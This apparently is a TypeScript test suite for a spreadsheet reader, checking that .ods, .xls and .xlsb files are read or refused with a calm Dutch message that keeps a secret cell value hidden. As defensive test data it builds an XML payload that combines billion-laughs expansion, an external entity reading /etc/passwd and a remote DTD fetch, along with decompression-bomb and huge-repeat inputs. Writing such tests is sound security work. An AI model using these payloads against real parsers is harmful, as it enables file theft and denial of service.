import { write, type BookType } from '@e965/xlsx';
import fc from 'fast-check';
import { openFile, Refusal } from '#workbook';
import { Zip } from '../../src/workbook/file/zip';

const SECRET = 'Jansen 123456782';
const IN_DUTCH = /^(?:Het|Dit|In) [^\n]+\.$/u;
const KINDS = { xls: 'biff8', xlsb: 'xlsb', ods: 'ods' } as const satisfies Record<string, BookType>;

/** A workbook of another kind than .xlsx, as the codec writes it. */
function written(kind: keyof typeof KINDS): Uint8Array {
  const sheet = { '!ref': 'A1:B3', A1: { t: 's', v: 'wet' }, B1: { t: 's', v: 'kosten' }, A2: { t: 's', v: SECRET }, B2: { t: 'n', v: 12.5, z: '0.00' }, A3: { t: 'b', v: true }, B3: { t: 'n', v: 1, f: 'B2+1' } };
  const bytes: unknown = write({ SheetNames: ['Voorzieningen'], Sheets: { Voorzieningen: sheet } }, { type: 'array', bookType: KINDS[kind] });
  return new Uint8Array(bytes as ArrayBuffer);
}

/** What is said of a file that is not taken, or what its cells hold. */
async function outcome(file: Uint8Array, name: string): Promise<{ readonly said: string | null; readonly cells: string }> {
  const opened = await openFile(file, name);
  if (opened instanceof Refusal) return { said: opened.message, cells: '' };
  return { said: null, cells: JSON.stringify((await opened.read(() => true)).sheets) };
}

function expectCalm(said: string | null): void {
  if (said !== null) expect(said).toMatch(IN_DUTCH);
  expect(said ?? '').not.toMatch(/Jansen|\d{9}/u);
}

function unzipped(file: Uint8Array): Zip {
  const zip = Zip.open(file);
  if (zip instanceof Refusal) throw new Error(zip.message);
  return zip;
}

const laughs = Array.from({ length: 30 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const DOCTYPE = `<!DOCTYPE r [<!ENTITY l0 "haha"><!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % x SYSTEM "https://elders.nl/x.dtd"> %x;${laughs}]>`;

describe('an .ods', () => {
  test.each(['content.xml', 'META-INF/manifest.xml', 'styles.xml', 'meta.xml'])('whose %s calls entities of this machine, of elsewhere, or a thousand million, is read without them or refused', async (part) => {
    const zip = unzipped(written('ods'));
    const text = (await zip.text(part)) ?? '<r/>';
    const before = process.memoryUsage().heapUsed;
    zip.set(part, `<?xml version="1.0"?>${DOCTYPE}${text.replace(/^<\?xml[^>]*\?>\s*/u, '').replace(/>wet</u, '>&l30;&f;<')}`);
    const { said, cells } = await outcome(await zip.build(), 'a.ods');
    expectCalm(said);
    expect(cells).not.toMatch(/root:|haha/u);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(100_000_000);
  });

  test('that unpacks to hundreds of millions of signs is refused', async () => {
    const zip = unzipped(written('ods'));
    zip.set('content.xml', `<office:document-content>${'<table:table-cell/>'.repeat(4_000_000)}</office:document-content>`);
    expect(await outcome(await zip.build(), 'a.ods')).toEqual({ said: new Refusal('unsafe').message, cells: '' });
  });

  test.each(['1000000000', '1e9', '0x3b9aca00', '4000000'])('that says it repeats a row or a cell %s times is refused before that is written out', async (amount) => {
    const zip = unzipped(written('ods'));
    const text = (await zip.text('content.xml')) ?? '';
    for (const [attribute, element] of [['rows', 'row'], ['columns', 'cell']] as const) {
      zip.set('content.xml', text.replace(new RegExp(`<table:table-${element}\\b`, 'u'), `<table:table-${element} table:number-${attribute}-repeated="${amount}"`));
      expect((await outcome(await zip.build(), 'a.ods')).said).toBe(new Refusal('unsafe').message);
    }
  });

  test('with empty rows and cells repeated to the edge, as LibreOffice writes it, is read', async () => {
    const zip = unzipped(written('ods'));
    const text = (await zip.text('content.xml')) ?? '';
    const edge = '<table:table-cell table:number-columns-repeated="16382"/>';
    const rest = '<table:table-row table:number-rows-repeated="1048573"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>';
    zip.set('content.xml', text.replaceAll('</table:table-row>', `${edge}</table:table-row>`).replace('</table:table>', `${rest}</table:table>`));
    const { said, cells } = await outcome(await zip.build(), 'a.ods');
    expect(said).toBeNull();
    expect(cells).toContain(SECRET);
  });

  test('with any markup in its content is read or refused in one Dutch sentence', async () => {
    const zip = unzipped(written('ods'));
    const text = (await zip.text('content.xml')) ?? '';
    const pieces = ['<table:table-cell>', '</table:table-row>', '<table:table-row table:number-rows-repeated="9">', '<text:p>', '</text:p>', '&#0;', '&x;', '<![CDATA[', ']]>', '"', SECRET, '<', '>'];
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(text.length), fc.constantFrom(...pieces)), { minLength: 1, maxLength: 6 }), async (changes) => {
        zip.set('content.xml', changes.reduce((now, [place, piece]) => now.slice(0, place) + piece + now.slice(place), text));
        expectCalm((await outcome(await zip.build(), 'a.ods')).said);
      }),
      { numRuns: 150 },
    );
  });
});

describe.each(Object.keys(KINDS) as (keyof typeof KINDS)[])('an .%s', (kind) => {
  const whole = written(kind);

  test('as it is, is read', async () => {
    expect((await outcome(whole, `a.${kind}`)).cells).toContain(SECRET);
  });

  test('with any bytes changed, or cut off anywhere, is read or refused in one Dutch sentence', () =>
    fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 12 }), fc.nat(whole.length), async (changes, cut) => {
        const file = Uint8Array.from(whole);
        for (const [place, byte] of changes) file[place] = byte;
        expectCalm((await outcome(file.subarray(0, changes.length === 0 ? cut : file.length), `a.${kind}`)).said);
      }),
      { numRuns: 150 },
    ));
});
